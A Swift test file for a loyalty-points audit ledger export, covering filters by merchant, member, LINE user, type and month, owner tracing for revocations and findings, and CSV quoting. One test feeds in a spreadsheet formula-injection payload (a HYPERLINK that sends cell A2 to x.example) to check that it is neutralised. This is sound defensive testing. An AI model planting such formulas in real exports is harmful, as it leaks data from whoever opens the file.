import PointCore
import PointJSON
import Testing

@Suite("Audit: filtered ledger export")
struct LedgerExportTests {
    /// A small history as (type, time, data): two merchants, a February grant of m-1 revoked in
    /// March, a finding on that revocation, a binding, a scenario review, a close.
    static let february = CivilTime.parseRFC3339("2026-02-10T12:00:00+08:00")!
    static let march = CivilTime.parseRFC3339("2026-03-05T12:00:00+08:00")!
    static let history: [(String, Int64, JSONValue)] = [
        ("scenario.submitted", february, ["scenarioId": "SCN-A", "merchantId": "M-A"]),
        ("scenario.submitted", february, ["scenarioId": "SCN-B", "merchantId": "M-B"]),
        ("scenario.approved", february, ["scenarioId": "SCN-A", "note": "ok"]),
        ("scenario.approved", february, ["scenarioId": "SCN-B", "note": "ok"]),
        ("binding.created", february, ["merchantId": "M-A", "memberId": "m-1", "lineUserId": "U1"]),
        ("grant.issued", february, ["merchantId": "M-A", "orderId": "o-1", "memberId": "m-1", "lineUserId": "U1", "scenarioId": "SCN-A", "points": 100]),
        ("grant.issued", february, ["merchantId": "M-A", "orderId": "o-2", "memberId": "m-2", "lineUserId": "U2", "scenarioId": "SCN-A", "points": 50]),
        ("grant.issued", march, ["merchantId": "M-B", "orderId": "o-1", "memberId": "m-1", "lineUserId": "U9", "scenarioId": "SCN-B", "points": 7]),
        ("revocation.recorded", march, ["merchantId": "M-A", "revocationId": "r-1", "orderId": "o-1", "points": 30, "reason": "fraud"]),
        ("revocation.recorded", march, ["merchantId": "M-A", "revocationId": "r-2", "orderId": "o-2", "points": 5, "reason": "fraud"]),
        ("finding.recorded", march, ["merchantId": "M-A", "revocationId": "r-1", "note": "late"]),
        ("period.closed", march, ["period": "2026-02", "closedAt": "2026-03-02T00:00:00.000000Z",
                                  "invoices": [["merchantId": "M-A", "number": "PC-2026-000001"]]]),
    ]

    static func run(_ filter: LedgerExportFilter) -> [(seq: UInt64, type: String, owner: LedgerExportMatcher.Owner?)] {
        var matcher = LedgerExportMatcher(filter: filter)
        var kept: [(UInt64, String, LedgerExportMatcher.Owner?)] = []
        for (index, (type, time, data)) in history.enumerated() {
            let (keep, owner) = matcher.match(type: type, time: time, data: data)
            if keep { kept.append((UInt64(index + 1), type, owner)) }
        }
        return kept
    }

    @Test("merchant filter keeps its records, its scenario reviews and the closes listing it")
    func merchant() {
        #expect(Self.run(LedgerExportFilter(merchantID: "M-A")).map(\.seq) == [1, 3, 5, 6, 7, 9, 10, 11, 12])
        #expect(Self.run(LedgerExportFilter(merchantID: "M-B")).map(\.seq) == [2, 4, 8])
        #expect(Self.run(LedgerExportFilter()).count == Self.history.count)
    }

    @Test("member and LINE user filters follow grants to their revocations and findings, across months")
    func person() {
        let member = Self.run(LedgerExportFilter(merchantID: "M-A", memberID: "m-1"))
        #expect(member.map(\.seq) == [5, 6, 9, 11])
        #expect(member.last?.owner?.orderID == "o-1")
        // Member ids are per merchant: m-1 of M-B is someone else.
        #expect(Self.run(LedgerExportFilter(memberID: "m-1")).map(\.seq) == [5, 6, 8, 9, 11])
        #expect(Self.run(LedgerExportFilter(lineUserID: "U2")).map(\.seq) == [7, 10])
        // The February grant is not exported in March, but its March revocation is found.
        let march = Self.run(LedgerExportFilter(memberID: "m-1", types: ["revocation.recorded"], month: try! BillingMonth(parsing: "2026-03")))
        #expect(march.map(\.seq) == [9])
        #expect(march.first?.owner == LedgerExportMatcher.Owner(orderID: "o-1", memberID: "m-1", lineUserID: "U1"))
    }

    @Test("type and month filters")
    func typeAndMonth() {
        #expect(Self.run(LedgerExportFilter(types: ["grant.issued"])).map(\.seq) == [6, 7, 8])
        #expect(Self.run(LedgerExportFilter(month: try! BillingMonth(parsing: "2026-02"))).map(\.seq) == Array(1...7))
        #expect(Self.run(LedgerExportFilter(types: ["grant.issued"], month: try! BillingMonth(parsing: "2026-03"))).map(\.seq) == [8])
    }

    @Test("a page starting mid-ledger resolves owners through the lookup")
    func lookup() {
        let lookup = LedgerExportMatcher.Lookup(
            revocationOwner: { merchant, revocation in
                merchant == "M-A" && revocation == "r-1" ? .init(orderID: "o-1", memberID: "m-1", lineUserID: "U1") : nil
            },
            scenarioMerchant: { $0 == "SCN-A" ? "M-A" : nil })
        var matcher = LedgerExportMatcher(filter: LedgerExportFilter(memberID: "m-1"), lookup: lookup)
        #expect(matcher.match(type: "finding.recorded", time: Self.march, data: Self.history[10].2).keep)
        #expect(!matcher.match(type: "revocation.recorded", time: Self.march, data: Self.history[9].2).keep)
        var byMerchant = LedgerExportMatcher(filter: LedgerExportFilter(merchantID: "M-A"), lookup: lookup)
        #expect(byMerchant.match(type: "scenario.approved", time: Self.february, data: Self.history[2].2).keep)
        #expect(!byMerchant.match(type: "scenario.approved", time: Self.february, data: Self.history[3].2).keep)
    }

    @Test("an orderId granted in sandbox and again in production: each revocation is the grant's the service revoked")
    func orderIDReusedAfterGoingLive() {
        let records: [(String, Int64, JSONValue)] = [
            ("grant.issued", Self.february, ["merchantId": "M-A", "orderId": "o-1", "memberId": "test-1", "lineUserId": "U1", "scenarioId": "SCN-A", "points": 100]),
            ("grant.issued", Self.february, ["merchantId": "M-A", "orderId": "o-5", "memberId": "test-1", "lineUserId": "U1", "scenarioId": "SCN-A", "points": 20]),
            ("merchant.production_opened", Self.february, ["merchantId": "M-A"]),
            ("grant.issued", Self.march, ["merchantId": "M-A", "orderId": "o-1", "memberId": "real-2", "lineUserId": "U2", "scenarioId": "SCN-A", "points": 7]),
            ("revocation.recorded", Self.march, ["merchantId": "M-A", "revocationId": "r-9", "orderId": "o-1", "points": 2, "reason": "fraud"]),
            ("revocation.recorded", Self.march, ["merchantId": "M-A", "revocationId": "r-5", "orderId": "o-5", "points": 3, "reason": "fraud"]),
        ]
        func kept(_ member: String) -> [String] {
            var matcher = LedgerExportMatcher(filter: LedgerExportFilter(memberID: member))
            return records.compactMap { type, time, data in
                let (keep, owner) = matcher.match(type: type, time: time, data: data)
                guard keep, type == "revocation.recorded" else { return nil }
                return "\(data["revocationId"]?.stringValue ?? "") \(owner?.memberID ?? "-")"
            }
        }
        // r-9 revoked the production grant of o-1 (real-2's), r-5 the only grant of o-5 (a test one).
        #expect(kept("test-1") == ["r-5 test-1"])
        #expect(kept("real-2") == ["r-9 real-2"])
    }

    @Test("CSV: a cell a spreadsheet would run as a formula is shown as text; JSON keeps the value")
    func spreadsheetFormulas() {
        let record = LedgerExportRecord(seq: 3, time: Self.march, type: "merchant.suspended", prev: String(repeating: "0", count: 64),
                                        data: ["merchantId": "M-A", "orderId": "-1-1", "reason": "=HYPERLINK(\"https://x.example/?\"&A2,\"details\")"],
                                        leafHash: String(repeating: "a", count: 64), owner: nil)
        let fields = record.csvFields
        #expect(fields[6] == "'-1-1" && fields[9] == "'=HYPERLINK(\"https://x.example/?\"&A2,\"details\")")
        for start in ["+", "@", "\t", "\r"] { #expect(LedgerExportRecord.spreadsheetSafe(start + "x") == "'" + start + "x") }
        #expect(LedgerExportRecord.spreadsheetSafe("o-1") == "o-1" && LedgerExportRecord.spreadsheetSafe("") == "")
        #expect(record.json["data"]?["reason"]?.stringValue?.hasPrefix("=HYPERLINK") == true)
    }

    @Test("CSV: fixed columns, RFC 4180 quoting, owner columns for revocations")
    func csv() {
        #expect(LedgerExportCSV.headerRow == "seq,time,type,merchantId,memberId,lineUserId,orderId,revocationId,points,reason,leafHash\r\n")
        let record = LedgerExportRecord(seq: 9, time: Self.march, type: "revocation.recorded", prev: String(repeating: "0", count: 64),
                                        data: ["merchantId": "M-A", "revocationId": "r,\"1\"", "orderId": "o-1", "points": 30,
                                               "reason": "line1\nline2"],
                                        leafHash: String(repeating: "a", count: 64),
                                        owner: .init(orderID: "o-1", memberID: "m-1", lineUserID: "U1"))
        #expect(LedgerExportCSV.row(record)
                == "9,2026-03-05T04:00:00.000000Z,revocation.recorded,M-A,m-1,U1,o-1,\"r,\"\"1\"\"\",30,\"line1\nline2\",\(String(repeating: "a", count: 64))\r\n")
        #expect(record.json["seq"] == .int(9))
        #expect(record.json["time"] == "2026-03-05T04:00:00.000000Z")
    }

    @Test("Without a person filter, a first pass lets revocations and findings carry their grant's owner; only those grants are remembered")
    func ownersFromAPrepass() {
        let filter = LedgerExportFilter(types: ["revocation.recorded", "finding.recorded"], month: try? BillingMonth(parsing: "2026-03"))
        var prepass = LedgerExportOwnerPrepass(filter: filter)
        for (type, time, data) in Self.history { prepass.visit(type: type, time: time, data: data) }
        #expect(prepass.grantsNeeded == [LedgerExportMatcher.Key(merchantID: "M-A", id: "o-1"), LedgerExportMatcher.Key(merchantID: "M-A", id: "o-2")])
        func owners(_ ownersOf: Set<LedgerExportMatcher.Key>) -> [String] {
            var matcher = LedgerExportMatcher(filter: filter, ownersOf: ownersOf)
            return Self.history.compactMap { type, time, data in
                let (keep, owner) = matcher.match(type: type, time: time, data: data)
                return keep ? "\(type) \(owner?.memberID ?? "-") \(owner?.lineUserID ?? "-")" : nil
            }
        }
        #expect(owners(prepass.grantsNeeded) == ["revocation.recorded m-1 U1", "revocation.recorded m-2 U2", "finding.recorded m-1 U1"])
        // Without the first pass a finding has no owner (the matcher remembers nothing unasked).
        #expect(owners([]).last == "finding.recorded - -")
        // A finding kept alone still finds its grant through the revocation seen in the first pass.
        var findingsOnly = LedgerExportOwnerPrepass(filter: LedgerExportFilter(types: ["finding.recorded"]))
        for (type, time, data) in Self.history { findingsOnly.visit(type: type, time: time, data: data) }
        #expect(findingsOnly.grantsNeeded == [LedgerExportMatcher.Key(merchantID: "M-A", id: "o-1")])
    }
}
